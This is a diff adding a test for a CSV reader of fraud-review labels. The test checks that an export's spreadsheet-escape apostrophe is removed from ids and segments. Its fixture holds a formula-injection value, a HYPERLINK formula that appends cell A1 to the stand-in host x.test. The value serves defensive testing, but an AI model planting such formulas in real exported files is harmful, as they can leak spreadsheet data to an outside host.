@@ -38,6 +38,18 @@ async function refusal(promise: Promise<unknown>): Promise<CsvError> {
 }
 
 describe("readLabels", () => {
+  it("undoes the export's spreadsheet mark on the header, the ids and the segments, and on nothing else", async () => {
+    const path = await file("marked.csv", [
+      "id,amount,items,segment,outcome,weight",
+      `"'=HYPERLINK(""http://x.test/""&A1,""x"")",42.5,2,'-web,fraud,1`,
+      "''quoted,18,1,app,legitimate,1",
+      "'plain,12,1,app,legitimate,1",
+    ]);
+    const labels = await readLabels(path, { features: FEATURES, segmentCandidates: ["segment"] });
+    expect(labels.ids).toEqual(['=HYPERLINK("http://x.test/"&A1,"x")', "'quoted", "'plain"]);
+    expect(labels.segments).toEqual(["-web", "app", "app"]);
+  });
+
   it("reads a review export with transactionId, outcome and weight, in file order", async () => {
     const path = await file("export.csv", [
       "transactionId,amount,items,channel,outcome,weight",
